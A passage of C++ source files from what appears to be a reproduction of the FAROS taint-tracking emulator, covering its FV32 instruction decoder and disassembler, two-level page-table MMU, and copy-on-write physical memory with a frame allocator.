  }
  return insn;
}

bool is_load(Opcode op) {
  return op == Opcode::kLd8 || op == Opcode::kLd16 || op == Opcode::kLd32 ||
         op == Opcode::kPop;
}

bool is_store(Opcode op) {
  return op == Opcode::kSt8 || op == Opcode::kSt16 || op == Opcode::kSt32 ||
         op == Opcode::kPush;
}

unsigned mem_access_size(Opcode op) {
  switch (op) {
    case Opcode::kLd8:
    case Opcode::kSt8: return 1;
    case Opcode::kLd16:
    case Opcode::kSt16: return 2;
    case Opcode::kLd32:
    case Opcode::kSt32:
    case Opcode::kPush:
    case Opcode::kPop: return 4;
    default: return 0;
  }
}

bool ends_block(Opcode op) {
  switch (op) {
    case Opcode::kJmp:
    case Opcode::kJr:
    case Opcode::kBeq:
    case Opcode::kBne:
    case Opcode::kBlt:
    case Opcode::kBge:
    case Opcode::kBltu:
    case Opcode::kBgeu:
    case Opcode::kCall:
    case Opcode::kCallr:
    case Opcode::kRet:
    case Opcode::kSyscall:
    case Opcode::kHalt:
    case Opcode::kBrk: return true;
    default: return false;
  }
}

bool taint_inert(Opcode op) {
  switch (op) {
    case Opcode::kLd8:
    case Opcode::kLd16:
    case Opcode::kLd32:
    case Opcode::kSt8:
    case Opcode::kSt16:
    case Opcode::kSt32:
    case Opcode::kPush:
    case Opcode::kPop:      // shadow-memory traffic and memory faults
    case Opcode::kSyscall:  // kernel transition + syscall-arg trigger
    case Opcode::kHalt:     // process lifecycle
    case Opcode::kBrk:      // trap
    case Opcode::kDivu:     // divide-by-zero traps mid-block
      return false;
    default: return true;
  }
}

bool is_cond_branch(Opcode op) {
  switch (op) {
    case Opcode::kBeq:
    case Opcode::kBne:
    case Opcode::kBlt:
    case Opcode::kBge:
    case Opcode::kBltu:
    case Opcode::kBgeu: return true;
    default: return false;
  }
}

bool is_direct_branch(Opcode op) {
  return op == Opcode::kJmp || op == Opcode::kCall || is_cond_branch(op);
}

bool is_indirect_branch(Opcode op) {
  return op == Opcode::kJr || op == Opcode::kCallr;
}

bool is_call(Opcode op) {
  return op == Opcode::kCall || op == Opcode::kCallr;
}

std::optional<u32> direct_target(const Instruction& insn, u32 va) {
  if (!is_direct_branch(insn.op)) return std::nullopt;
  return va + kInsnSize + insn.imm;  // u32 wrap matches the interpreter
}

std::string disassemble(const Instruction& insn) {
  const char* op = opcode_name(insn.op);
  const char* rd = reg_name(insn.rd);
  const char* rs1 = reg_name(insn.rs1);
  const char* rs2 = reg_name(insn.rs2);
  switch (insn.op) {
    case Opcode::kNop:
    case Opcode::kHalt:
    case Opcode::kRet:
    case Opcode::kSyscall:
    case Opcode::kBrk: return op;
    case Opcode::kMovi: return strf("%s %s, %d", op, rd, insn.simm());
    case Opcode::kMov: return strf("%s %s, %s", op, rd, rs1);
    case Opcode::kAddPc: return strf("%s %s, %d", op, rd, insn.simm());
    case Opcode::kLd8:
    case Opcode::kLd16:
    case Opcode::kLd32:
      return strf("%s %s, [%s%+d]", op, rd, rs1, insn.simm());
    case Opcode::kSt8:
    case Opcode::kSt16:
    case Opcode::kSt32:
      return strf("%s [%s%+d], %s", op, rs1, insn.simm(), rs2);
    case Opcode::kAdd:
    case Opcode::kSub:
    case Opcode::kMul:
    case Opcode::kDivu:
    case Opcode::kAnd:
    case Opcode::kOr:
    case Opcode::kXor:
    case Opcode::kShl:
    case Opcode::kShr:
      return strf("%s %s, %s, %s", op, rd, rs1, rs2);
    case Opcode::kAddi:
    case Opcode::kSubi:
    case Opcode::kMuli:
    case Opcode::kAndi:
    case Opcode::kOri:
    case Opcode::kXori:
    case Opcode::kShli:
    case Opcode::kShri:
      return strf("%s %s, %s, %d", op, rd, rs1, insn.simm());
    case Opcode::kCmp: return strf("%s %s, %s", op, rs1, rs2);
    case Opcode::kCmpi: return strf("%s %s, %d", op, rs1, insn.simm());
    case Opcode::kJmp:
    case Opcode::kBeq:
    case Opcode::kBne:
    case Opcode::kBlt:
    case Opcode::kBge:
    case Opcode::kBltu:
    case Opcode::kBgeu:
    case Opcode::kCall: return strf("%s %+d", op, insn.simm());
    case Opcode::kJr:
    case Opcode::kCallr: return strf("%s %s", op, rs1);
    case Opcode::kPush: return strf("%s %s", op, rs1);
    case Opcode::kPop: return strf("%s %s", op, rd);
  }
  return op;
}

u64 insn_seq_hash(const Instruction* insns, size_t count) {
  u64 h = 0xcbf29ce484222325ull;  // FNV-1a offset basis
  auto mix = [&h](u8 byte) {
    h ^= byte;
    h *= 0x100000001b3ull;  // FNV prime
  };
  for (size_t i = 0; i < count; ++i) {
    const Instruction& insn = insns[i];
    mix(static_cast<u8>(insn.op));
    mix(insn.rd);
    mix(insn.rs1);
    mix(insn.rs2);
    mix(static_cast<u8>(insn.imm));
    mix(static_cast<u8>(insn.imm >> 8));
    mix(static_cast<u8>(insn.imm >> 16));
    mix(static_cast<u8>(insn.imm >> 24));
  }
  return h;
}

}  // namespace faros::vm
