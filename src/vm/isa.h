// FV32: the guest instruction set of the FAROS reproduction's whole-system
// emulator (the stand-in for QEMU's x86 guest).
//
// Design goals, in order: (1) byte-addressable memory with 8/16/32-bit
// loads/stores so byte-level tainting is meaningful; (2) a fixed, trivially
// decodable encoding so the DIFT engine can reason about every executed
// instruction; (3) position-independent control flow (relative branches and
// ADDPC) so injected payloads can run at arbitrary addresses, as real
// shellcode does.
//
// Encoding: every instruction is 8 bytes, little-endian:
//   byte 0: opcode        byte 1: rd        byte 2: rs1       byte 3: rs2
//   bytes 4..7: imm32 (signed where the semantics call for it)
#pragma once

#include <optional>
#include <string>

#include "common/types.h"

namespace faros::vm {

inline constexpr u32 kInsnSize = 8;
inline constexpr u32 kNumRegs = 16;

/// Register numbers. R13..R15 have conventional roles.
enum Reg : u8 {
  R0 = 0, R1, R2, R3, R4, R5, R6, R7, R8, R9, R10, R11, R12,
  SP = 13,  // stack pointer
  LR = 14,  // link register
  PC = 15,  // program counter (not directly encodable as an operand)
};

enum class Opcode : u8 {
  // --- misc ---
  kNop = 0x00,
  kHalt = 0x01,      // voluntary termination of the current process
  kMovi = 0x02,      // rd = imm                       (taint: delete rd)
  kMov = 0x03,       // rd = rs1                       (taint: copy)
  kAddPc = 0x04,     // rd = next_pc + imm  (PIC data addressing, like ADR)

  // --- loads/stores: address = rs1 + imm (signed) ---
  kLd8 = 0x10,       // rd = zext(mem8[ea])
  kLd16 = 0x11,
  kLd32 = 0x12,
  kSt8 = 0x14,       // mem8[ea] = low byte of rs2
  kSt16 = 0x15,
  kSt32 = 0x16,

  // --- three-register ALU: rd = rs1 op rs2 ---
  kAdd = 0x20,
  kSub = 0x21,
  kMul = 0x22,
  kDivu = 0x23,      // unsigned divide; divide-by-zero traps
  kAnd = 0x24,
  kOr = 0x25,
  kXor = 0x26,       // xor rd, rs, rs zeroes rd       (taint: delete)
  kShl = 0x27,
  kShr = 0x28,       // logical right shift

  // --- register-immediate ALU: rd = rs1 op imm ---
  kAddi = 0x30,
  kSubi = 0x31,
  kMuli = 0x32,
  kAndi = 0x34,
  kOri = 0x35,
  kXori = 0x36,
  kShli = 0x37,
  kShri = 0x38,

  // --- compare: sets flags consumed by conditional branches ---
  kCmp = 0x40,       // flags = compare(rs1, rs2)
  kCmpi = 0x41,      // flags = compare(rs1, imm)

  // --- control flow. Branch targets are relative to the *next* insn ---
  kJmp = 0x50,       // pc = next_pc + imm
  kJr = 0x51,        // pc = rs1 (absolute indirect)
  kBeq = 0x52,
  kBne = 0x53,
  kBlt = 0x54,       // signed <
  kBge = 0x55,       // signed >=
  kBltu = 0x56,      // unsigned <
  kBgeu = 0x57,      // unsigned >=
  kCall = 0x58,      // lr = next_pc; pc = next_pc + imm
  kCallr = 0x59,     // lr = next_pc; pc = rs1
  kRet = 0x5a,       // pc = lr

  // --- stack ---
  kPush = 0x60,      // sp -= 4; mem32[sp] = rs1
  kPop = 0x61,       // rd = mem32[sp]; sp += 4

  // --- system ---
  kSyscall = 0x70,   // service number in r0, args in r1..r4, result in r0
  kBrk = 0x71,       // debug trap (delivers a trap to the kernel)
};

/// Decoded instruction.
struct Instruction {
  Opcode op = Opcode::kNop;
  u8 rd = 0;
  u8 rs1 = 0;
  u8 rs2 = 0;
  u32 imm = 0;

  i32 simm() const { return static_cast<i32>(imm); }
  bool operator==(const Instruction&) const = default;
};

/// True if `op` is a defined FV32 opcode.
bool opcode_valid(u8 op);

/// Mnemonic for an opcode ("ld8", "addi", ...).
const char* opcode_name(Opcode op);

/// Register name ("r4", "sp", "lr", "pc").
const char* reg_name(u8 r);

/// Encode to the fixed 8-byte form (appends to `out`).
void encode(const Instruction& insn, Bytes& out);

/// Decode 8 bytes. Returns nullopt for an undefined opcode or short span.
std::optional<Instruction> decode(ByteSpan bytes);

/// Instruction classification used by the interpreter and the DIFT engine.
bool is_load(Opcode op);
bool is_store(Opcode op);
/// Size in bytes of the memory access for load/store/push/pop opcodes.
unsigned mem_access_size(Opcode op);
/// True for any opcode that ends a basic block (branches, calls, ret,
/// syscall, halt, brk).
bool ends_block(Opcode op);

/// True when `op`, executed with a fully clean register bank, can neither
/// observe nor produce tainted state and cannot trap or leave user mode:
/// no loads/stores/push/pop (shadow-memory traffic + memory faults), no
/// syscall/halt/brk (kernel transitions), no divu (div-by-zero trap).
/// The block-translation cache (src/vm/btcache.h) runs blocks made only of
/// these opcodes through an uninstrumented fast body once the DIFT engine
/// approves the elision; the static analyzer (src/sa) exports the same
/// classification per basic block, so it must live beside the decoder.
bool taint_inert(Opcode op);

// Control-flow classification for static analysis (src/sa). The static CFG
// builder must agree with the interpreter about what transfers control and
// where, so these live beside the decoder rather than in the analyzer.

/// beq/bne/blt/bge/bltu/bgeu — falls through when the condition fails.
bool is_cond_branch(Opcode op);
/// jmp/call and the conditional branches — target encoded in imm.
bool is_direct_branch(Opcode op);
/// jr/callr — target in a register, invisible to a linear decoder.
bool is_indirect_branch(Opcode op);
/// call/callr — pushes a return address into lr.
bool is_call(Opcode op);
/// Absolute target of a direct branch at virtual address `va` (targets are
/// encoded relative to the *next* instruction). nullopt for non-direct ops.
std::optional<u32> direct_target(const Instruction& insn, u32 va);

/// Human-readable disassembly, e.g. "ld8 r1, [r2+16]".
std::string disassemble(const Instruction& insn);

/// FNV-1a over the decoded fields of an instruction sequence. The static
/// analyzer stamps its block-level elision proofs with this (sa elide
/// hints) and the engine recomputes it over a freshly translated block, so
/// a proof can never be applied to bytes that changed since analysis.
u64 insn_seq_hash(const Instruction* insns, size_t count);

}  // namespace faros::vm
