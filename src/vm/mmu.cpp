#include "vm/mmu.h"

#include "common/strings.h"

namespace faros::vm {

const char* fault_kind_name(FaultKind kind) {
  switch (kind) {
    case FaultKind::kNotMapped: return "not-mapped";
    case FaultKind::kProtWrite: return "write-protect";
    case FaultKind::kProtExec: return "exec-protect";
    case FaultKind::kNotUser: return "supervisor-page";
  }
  return "?";
}

Result<AddressSpace> AddressSpace::create(PhysMem& mem,
                                          FrameAllocator& frames) {
  auto dir = frames.alloc();
  if (!dir.ok()) return Err<AddressSpace>("mmu: " + dir.error().message);
  for (u32 i = 0; i < kEntriesPerTable; ++i) {
    mem.write32(dir.value() + i * 4, 0);
  }
  return AddressSpace(&mem, &frames, dir.value());
}

AddressSpace AddressSpace::adopt(PhysMem& mem, FrameAllocator& frames,
                                 PAddr cr3) {
  return AddressSpace(&mem, &frames, cr3);
}

Result<void> AddressSpace::ensure_table(VAddr va) {
  PAddr pde_addr = cr3_ + pde_index(va) * 4;
  u32 pde = mem_->read32(pde_addr);
  if (pde & kPtePresent) return Ok();
  auto t = frames_->alloc();
  if (!t.ok()) return Err<void>("mmu: " + t.error().message);
  for (u32 i = 0; i < kEntriesPerTable; ++i) {
    mem_->write32(t.value() + i * 4, 0);
  }
  mem_->write32(pde_addr, static_cast<u32>(t.value()) | kPtePresent);
  return Ok();
}

Result<void> AddressSpace::map_page(VAddr va, PAddr pa, u32 flags) {
  if (page_offset(va) != 0 || page_offset(static_cast<u32>(pa)) != 0) {
    return Err<void>("mmu: unaligned mapping " + hex32(va));
  }
  PAddr pde_addr = cr3_ + pde_index(va) * 4;
  u32 pde = mem_->read32(pde_addr);
  PAddr table;
  if (!(pde & kPtePresent)) {
    auto t = frames_->alloc();
    if (!t.ok()) return Err<void>("mmu: " + t.error().message);
    table = t.value();
    for (u32 i = 0; i < kEntriesPerTable; ++i) mem_->write32(table + i * 4, 0);
    mem_->write32(pde_addr, static_cast<u32>(table) | kPtePresent);
  } else {
    table = pde & ~kPteFlagMask;
  }
  PAddr pte_addr = table + pte_index(va) * 4;
  mem_->write32(pte_addr,
                static_cast<u32>(pa) | (flags & kPteFlagMask) | kPtePresent);
  return Ok();
}

Result<void> AddressSpace::map_alloc(VAddr va, u32 len, u32 flags) {
  if (len == 0) return Ok();
  VAddr lo = page_floor(va);
  VAddr hi = page_floor(va + len - 1) + kPageSize;  // may wrap to 0 at top
  for (VAddr p = lo; p != hi; p += kPageSize) {
    if (is_mapped(p)) continue;  // idempotent growth of a region
    auto frame = frames_->alloc();
    if (!frame.ok()) return Err<void>("mmu: " + frame.error().message);
    // Fresh frames are zeroed so processes never observe stale data.
    Bytes zero(kPageSize, 0);
    mem_->write(frame.value(), zero);
    auto r = map_page(p, frame.value(), flags);
    if (!r.ok()) return r;
    if (p + kPageSize < p) break;  // wrapped at top of address space
  }
  return Ok();
}

Result<void> AddressSpace::unmap_page(VAddr va, bool free_frame) {
  PAddr pde_addr = cr3_ + pde_index(va) * 4;
  u32 pde = mem_->read32(pde_addr);
  if (!(pde & kPtePresent)) return Err<void>("mmu: unmap of unmapped page");
  PAddr table = pde & ~kPteFlagMask;
  PAddr pte_addr = table + pte_index(va) * 4;
  u32 pte = mem_->read32(pte_addr);
  if (!(pte & kPtePresent)) return Err<void>("mmu: unmap of unmapped page");
  if (free_frame) frames_->free(pte & ~kPteFlagMask);
  mem_->write32(pte_addr, 0);
  return Ok();
}

Result<void> AddressSpace::unmap_range(VAddr va, u32 len, bool free_frames) {
  if (len == 0) return Ok();
  VAddr lo = page_floor(va);
  VAddr hi = page_floor(va + len - 1) + kPageSize;
  for (VAddr p = lo; p != hi; p += kPageSize) {
    if (is_mapped(p)) {
      auto r = unmap_page(p, free_frames);
      if (!r.ok()) return r;
    }
    if (p + kPageSize < p) break;
  }
  return Ok();
}

Result<void> AddressSpace::protect_range(VAddr va, u32 len, u32 flags) {
  if (len == 0) return Ok();
  VAddr lo = page_floor(va);
  VAddr hi = page_floor(va + len - 1) + kPageSize;
  for (VAddr p = lo; p != hi; p += kPageSize) {
    PAddr pde_addr = cr3_ + pde_index(p) * 4;
    u32 pde = mem_->read32(pde_addr);
    if (!(pde & kPtePresent)) return Err<void>("mmu: protect of unmapped");
    PAddr table = pde & ~kPteFlagMask;
    PAddr pte_addr = table + pte_index(p) * 4;
    u32 pte = mem_->read32(pte_addr);
    if (!(pte & kPtePresent)) return Err<void>("mmu: protect of unmapped");
    mem_->write32(pte_addr, (pte & ~kPteFlagMask) | (flags & kPteFlagMask) |
                                kPtePresent);
    if (p + kPageSize < p) break;
  }
  return Ok();
}

void AddressSpace::share_directory_range(const AddressSpace& other,
                                         VAddr va_lo, VAddr va_hi) {
  for (u32 idx = va_lo >> 22; idx <= ((va_hi - 1) >> 22); ++idx) {
    u32 pde = mem_->read32(other.cr3_ + idx * 4);
    mem_->write32(cr3_ + idx * 4, pde);
  }
}

std::optional<PAddr> AddressSpace::translate(VAddr va, AccessType type,
                                             bool user, Fault* fault) const {
  auto fail = [&](FaultKind kind) -> std::optional<PAddr> {
    if (fault) *fault = Fault{va, kind};
    return std::nullopt;
  };
  if (!valid()) return fail(FaultKind::kNotMapped);  // destroyed space
  u32 pde = mem_->read32(cr3_ + pde_index(va) * 4);
  if (!(pde & kPtePresent)) return fail(FaultKind::kNotMapped);
  PAddr table = pde & ~kPteFlagMask;
  u32 pte = mem_->read32(table + pte_index(va) * 4);
  if (!(pte & kPtePresent)) return fail(FaultKind::kNotMapped);
  // Protection bits only constrain user-mode accesses; the (native) kernel
  // has full access to any mapped page, like an x86 kernel with CR0.WP=0.
  if (user) {
    if (!(pte & kPteUser)) return fail(FaultKind::kNotUser);
    if (type == AccessType::kWrite && !(pte & kPteWrite)) {
      return fail(FaultKind::kProtWrite);
    }
    if (type == AccessType::kExec && !(pte & kPteExec)) {
      return fail(FaultKind::kProtExec);
    }
  }
  return (pte & ~kPteFlagMask) | page_offset(va);
}

std::optional<u32> AddressSpace::lookup_pte(VAddr va) const {
  if (!valid()) return std::nullopt;
  u32 pde = mem_->read32(cr3_ + pde_index(va) * 4);
  if (!(pde & kPtePresent)) return std::nullopt;
  PAddr table = pde & ~kPteFlagMask;
  u32 pte = mem_->read32(table + pte_index(va) * 4);
  if (!(pte & kPtePresent)) return std::nullopt;
  return pte;
}

bool AddressSpace::is_mapped(VAddr va) const {
  return translate(va, AccessType::kRead, /*user=*/false).has_value();
}

u32 AddressSpace::page_flags(VAddr va) const {
  u32 pde = mem_->read32(cr3_ + pde_index(va) * 4);
  if (!(pde & kPtePresent)) return 0;
  PAddr table = pde & ~kPteFlagMask;
  u32 pte = mem_->read32(table + pte_index(va) * 4);
  if (!(pte & kPtePresent)) return 0;
  return pte & kPteFlagMask;
}

void AddressSpace::destroy(bool free_user_frames) {
  if (!valid()) return;
  // Walk only the user half: kernel-half tables are shared across spaces.
  for (u32 idx = 0; idx < (kKernelBase >> 22); ++idx) {
    u32 pde = mem_->read32(cr3_ + idx * 4);
    if (!(pde & kPtePresent)) continue;
    PAddr table = pde & ~kPteFlagMask;
    if (free_user_frames) {
      for (u32 t = 0; t < kEntriesPerTable; ++t) {
        u32 pte = mem_->read32(table + t * 4);
        if (pte & kPtePresent) frames_->free(pte & ~kPteFlagMask);
      }
    }
    frames_->free(table);
    mem_->write32(cr3_ + idx * 4, 0);
  }
  frames_->free(cr3_);
  mem_ = nullptr;
}

Result<void> AddressSpace::copy_in(VAddr va, ByteSpan data, bool user) {
  u32 done = 0;
  while (done < data.size()) {
    Fault fault;
    auto pa = translate(va + done, AccessType::kWrite, user, &fault);
    if (!pa) {
      return Err<void>(strf("mmu: copy_in fault at %s (%s)",
                            hex32(va + done).c_str(),
                            fault_kind_name(fault.kind)));
    }
    u32 chunk = std::min<u32>(static_cast<u32>(data.size()) - done,
                              kPageSize - page_offset(va + done));
    mem_->write(*pa, data.subspan(done, chunk));
    done += chunk;
  }
  return Ok();
}

Result<void> AddressSpace::copy_out(VAddr va, MutByteSpan out,
                                    bool user) const {
  u32 done = 0;
  while (done < out.size()) {
    Fault fault;
    auto pa = translate(va + done, AccessType::kRead, user, &fault);
    if (!pa) {
      return Err<void>(strf("mmu: copy_out fault at %s (%s)",
                            hex32(va + done).c_str(),
                            fault_kind_name(fault.kind)));
    }
    u32 chunk = std::min<u32>(static_cast<u32>(out.size()) - done,
                              kPageSize - page_offset(va + done));
    mem_->read(*pa, out.subspan(done, chunk));
    done += chunk;
  }
  return Ok();
}

Result<std::string> AddressSpace::read_cstr(VAddr va, u32 max_len,
                                            bool user) const {
  std::string out;
  for (u32 i = 0; i < max_len; ++i) {
    auto pa = translate(va + i, AccessType::kRead, user);
    if (!pa) return Err<std::string>("mmu: string read fault");
    u8 c = mem_->read8(*pa);
    if (c == 0) return out;
    out.push_back(static_cast<char>(c));
  }
  return Err<std::string>("mmu: unterminated string");
}

u32 AddressSpace::read32_or(VAddr va, u32 fallback) const {
  u32 buf = 0;
  MutByteSpan span(reinterpret_cast<u8*>(&buf), 4);
  auto r = copy_out(va, span, /*user=*/false);
  return r.ok() ? buf : fallback;
}

}  // namespace faros::vm
