// Two-level page tables, x86-32 style. Page tables live in guest physical
// memory and the root ("CR3") is a physical address that uniquely identifies
// an address space — FAROS uses the CR3 value as its architecture-level
// process tag, exactly as the paper does.
#pragma once

#include <optional>

#include "common/result.h"
#include "common/types.h"
#include "vm/phys_mem.h"

namespace faros::vm {

/// PTE / PDE flag bits (low 12 bits of the 32-bit entry).
enum PteFlags : u32 {
  kPtePresent = 0x1,
  kPteWrite = 0x2,
  kPteExec = 0x4,
  kPteUser = 0x8,
};

inline constexpr u32 kPteFlagMask = 0xfff;
inline constexpr u32 kEntriesPerTable = kPageSize / 4;  // 1024

/// Start of the shared kernel half of every address space.
inline constexpr VAddr kKernelBase = 0xC0000000u;

enum class AccessType { kRead, kWrite, kExec };

enum class FaultKind {
  kNotMapped,
  kProtWrite,
  kProtExec,
  kNotUser,
};

struct Fault {
  VAddr va = 0;
  FaultKind kind = FaultKind::kNotMapped;
};

const char* fault_kind_name(FaultKind kind);

/// One guest address space: a page directory plus the page tables hanging
/// off it. Copyable handle; the backing state is all in guest RAM.
class AddressSpace {
 public:
  AddressSpace() = default;

  /// Allocates and zeroes a fresh page directory.
  static Result<AddressSpace> create(PhysMem& mem, FrameAllocator& frames);

  /// Wraps an existing directory (used when restoring from CR3).
  static AddressSpace adopt(PhysMem& mem, FrameAllocator& frames, PAddr cr3);

  PAddr cr3() const { return cr3_; }
  bool valid() const { return mem_ != nullptr; }

  /// Ensures the second-level table covering `va` exists (without mapping
  /// anything). Used to pre-create all kernel page tables at boot so the
  /// kernel-half directory entries are stable before any process copies
  /// them via share_directory_range().
  Result<void> ensure_table(VAddr va);

  /// Maps one page va -> pa with `flags` (kPtePresent is implied).
  Result<void> map_page(VAddr va, PAddr pa, u32 flags);
  /// Maps `len` bytes starting at page-aligned `va`, allocating frames.
  Result<void> map_alloc(VAddr va, u32 len, u32 flags);
  /// Removes the mapping; optionally frees the backing frame.
  Result<void> unmap_page(VAddr va, bool free_frame);
  Result<void> unmap_range(VAddr va, u32 len, bool free_frames);
  /// Rewrites the protection flags of an existing mapping.
  Result<void> protect_range(VAddr va, u32 len, u32 flags);

  /// Copies the page-directory entries covering [va_lo, va_hi) from
  /// `other`, so both spaces share the same second-level tables. This is
  /// how the kernel half is kept identical across processes.
  void share_directory_range(const AddressSpace& other, VAddr va_lo,
                             VAddr va_hi);

  /// Walks the tables. Returns the physical address, or nullopt and fills
  /// `fault`. `user` access to a supervisor page faults with kNotUser.
  std::optional<PAddr> translate(VAddr va, AccessType type, bool user,
                                 Fault* fault = nullptr) const;

  /// Raw PTE for `va` (present bit included), or nullopt when unmapped.
  /// Used by the interpreter's TLB to cache translation + protection in
  /// one lookup.
  std::optional<u32> lookup_pte(VAddr va) const;

  /// True iff the page containing `va` is mapped at all.
  bool is_mapped(VAddr va) const;
  /// Flags of the PTE mapping `va` (0 when unmapped).
  u32 page_flags(VAddr va) const;

  /// Releases the page directory and all user-half page tables and frames.
  /// Kernel-half tables are shared and never freed here.
  void destroy(bool free_user_frames);

  // --- bulk copies used by the kernel; they translate page by page.
  // `user` selects whether user-mode protections are enforced.
  Result<void> copy_in(VAddr va, ByteSpan data, bool user);
  Result<void> copy_out(VAddr va, MutByteSpan out, bool user) const;

  /// Reads a NUL-terminated guest string (bounded by `max_len`).
  Result<std::string> read_cstr(VAddr va, u32 max_len, bool user) const;

  u32 read32_or(VAddr va, u32 fallback) const;

 private:
  AddressSpace(PhysMem* mem, FrameAllocator* frames, PAddr cr3)
      : mem_(mem), frames_(frames), cr3_(cr3) {}

  u32 pde_index(VAddr va) const { return va >> 22; }
  u32 pte_index(VAddr va) const { return (va >> 12) & 0x3ff; }

  PhysMem* mem_ = nullptr;
  FrameAllocator* frames_ = nullptr;
  PAddr cr3_ = 0;
};

}  // namespace faros::vm
