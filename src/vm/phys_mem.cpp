#include "vm/phys_mem.h"

#include <cassert>
#include <cstring>

#include "common/strings.h"

namespace faros::vm {

PhysMem::PhysMem(u32 size_bytes) : ram_(page_ceil(size_bytes), 0) {
  assert(size_bytes > 0);
  size_ = static_cast<u32>(ram_.size());
  const u32 nf = num_frames();
  rtab_.resize(nf);
  wtab_.resize(nf);
  for (u32 f = 0; f < nf; ++f) {
    u8* p = ram_.data() + (static_cast<size_t>(f) << kPageShift);
    rtab_[f] = p;
    wtab_[f] = p;
  }
  watched_.assign(nf, 0);
}

PhysMem::PhysMem(std::shared_ptr<const MemImage> base)
    : base_(std::move(base)) {
  assert(base_ && !base_->ram.empty() &&
         base_->ram.size() % kPageSize == 0);
  size_ = base_->size();
  const u32 nf = num_frames();
  rtab_.resize(nf);
  wtab_.assign(nf, nullptr);
  for (u32 f = 0; f < nf; ++f) {
    rtab_[f] = base_->ram.data() + (static_cast<size_t>(f) << kPageShift);
  }
  watched_.assign(nf, 0);
  stats_.cow = true;
  stats_.shared_frames = nf;
}

u8* PhysMem::arena_alloc() {
  if (arena_used_ == kFramesPerChunk) {
    arena_.push_back(
        std::make_unique<u8[]>(static_cast<size_t>(kFramesPerChunk) *
                               kPageSize));
    arena_used_ = 0;
  }
  return arena_.back().get() +
         static_cast<size_t>(arena_used_++) * kPageSize;
}

u8* PhysMem::cow_fault(u64 frame) {
  u8* p = arena_alloc();
  std::memcpy(p, rtab_[frame], kPageSize);
  rtab_[frame] = p;
  wtab_[frame] = p;
  ++stats_.cow_faults;
  --stats_.shared_frames;
  return p;
}

void PhysMem::notify_code_write(PAddr pa, u32 len) {
  if (!on_code_write_) return;
  const u64 first = pa >> kPageShift;
  const u64 last = (pa + len - 1) >> kPageShift;
  for (u64 f = first; f <= last; ++f) {
    const u32 w = watched_[f];
    if (!w) continue;
    // Clip the write to this frame and test against the watched range
    // (hi is stored biased by +1; see watch_frame).
    const u32 w_lo = w >> 16;
    const u32 w_hi = (w & 0xffffu) - 1;
    const u32 frame_lo = static_cast<u32>(
        std::max<u64>(pa, f << kPageShift) - (f << kPageShift));
    const u32 frame_hi = static_cast<u32>(
        std::min<u64>(pa + len, (f + 1) << kPageShift) - (f << kPageShift));
    if (frame_lo < w_hi && w_lo < frame_hi) {
      on_code_write_(pa, len);
      return;
    }
  }
}

u8 PhysMem::read8(PAddr pa) const {
  assert(contains(pa, 1));
  return rtab_[pa >> kPageShift][page_offset(static_cast<u32>(pa))];
}

u16 PhysMem::read16(PAddr pa) const {
  assert(contains(pa, 2));
  const u32 off = page_offset(static_cast<u32>(pa));
  if (off <= kPageSize - 2) {
    const u8* p = rtab_[pa >> kPageShift] + off;
    return static_cast<u16>(p[0]) | (static_cast<u16>(p[1]) << 8);
  }
  return static_cast<u16>(read8(pa)) |
         (static_cast<u16>(read8(pa + 1)) << 8);
}

u32 PhysMem::read32(PAddr pa) const {
  assert(contains(pa, 4));
  const u32 off = page_offset(static_cast<u32>(pa));
  if (off <= kPageSize - 4) {
    const u8* p = rtab_[pa >> kPageShift] + off;
    return static_cast<u32>(p[0]) | (static_cast<u32>(p[1]) << 8) |
           (static_cast<u32>(p[2]) << 16) | (static_cast<u32>(p[3]) << 24);
  }
  return static_cast<u32>(read8(pa)) |
         (static_cast<u32>(read8(pa + 1)) << 8) |
         (static_cast<u32>(read8(pa + 2)) << 16) |
         (static_cast<u32>(read8(pa + 3)) << 24);
}

void PhysMem::write8(PAddr pa, u8 v) {
  assert(contains(pa, 1));
  if (watched_[pa >> kPageShift]) notify_code_write(pa, 1);
  store8(pa, v);
}

void PhysMem::write16(PAddr pa, u16 v) {
  assert(contains(pa, 2));
  if (watched_[pa >> kPageShift] | watched_[(pa + 1) >> kPageShift]) {
    notify_code_write(pa, 2);
  }
  store8(pa, static_cast<u8>(v & 0xff));
  store8(pa + 1, static_cast<u8>(v >> 8));
}

void PhysMem::write32(PAddr pa, u32 v) {
  assert(contains(pa, 4));
  if (watched_[pa >> kPageShift] | watched_[(pa + 3) >> kPageShift]) {
    notify_code_write(pa, 4);
  }
  store8(pa, static_cast<u8>(v & 0xff));
  store8(pa + 1, static_cast<u8>((v >> 8) & 0xff));
  store8(pa + 2, static_cast<u8>((v >> 16) & 0xff));
  store8(pa + 3, static_cast<u8>((v >> 24) & 0xff));
}

void PhysMem::read(PAddr pa, MutByteSpan out) const {
  assert(contains(pa, static_cast<u32>(out.size())));
  size_t done = 0;
  while (done < out.size()) {
    const PAddr cur = pa + done;
    const u32 off = page_offset(static_cast<u32>(cur));
    const size_t n = std::min<size_t>(out.size() - done, kPageSize - off);
    std::memcpy(out.data() + done, rtab_[cur >> kPageShift] + off, n);
    done += n;
  }
}

void PhysMem::write(PAddr pa, ByteSpan data) {
  assert(contains(pa, static_cast<u32>(data.size())));
  if (!data.empty()) notify_code_write(pa, static_cast<u32>(data.size()));
  size_t done = 0;
  while (done < data.size()) {
    const PAddr cur = pa + done;
    const u64 f = cur >> kPageShift;
    const u32 off = page_offset(static_cast<u32>(cur));
    const size_t n = std::min<size_t>(data.size() - done, kPageSize - off);
    u8* p = wtab_[f];
    if (!p) p = cow_fault(f);
    std::memcpy(p + off, data.data() + done, n);
    done += n;
  }
}

ByteSpan PhysMem::span(PAddr pa, u32 len) const {
  assert(contains(pa, len));
  const u64 f = pa >> kPageShift;
  assert(len == 0 || ((pa + len - 1) >> kPageShift) == f);
  return ByteSpan(rtab_[f] + page_offset(static_cast<u32>(pa)), len);
}

std::shared_ptr<const MemImage> PhysMem::freeze() const {
  auto img = std::make_shared<MemImage>();
  img->ram.resize(size_);
  for (u32 f = 0; f < num_frames(); ++f) {
    std::memcpy(img->ram.data() + (static_cast<size_t>(f) << kPageShift),
                rtab_[f], kPageSize);
  }
  return img;
}

FrameAllocator::FrameAllocator(u32 num_frames)
    : used_(num_frames, false), free_count_(num_frames) {}

Result<PAddr> FrameAllocator::alloc() {
  if (free_count_ == 0) return Err<PAddr>("out of physical frames");
  for (u32 i = 0; i < used_.size(); ++i) {
    u32 idx = (search_hint_ + i) % used_.size();
    if (!used_[idx]) {
      // Restart the scan from the beginning next time a lower frame is
      // freed; determinism only requires a fixed policy, so lowest-first
      // from hint is fine.
      used_[idx] = true;
      --free_count_;
      search_hint_ = idx + 1;
      return static_cast<PAddr>(idx) << kPageShift;
    }
  }
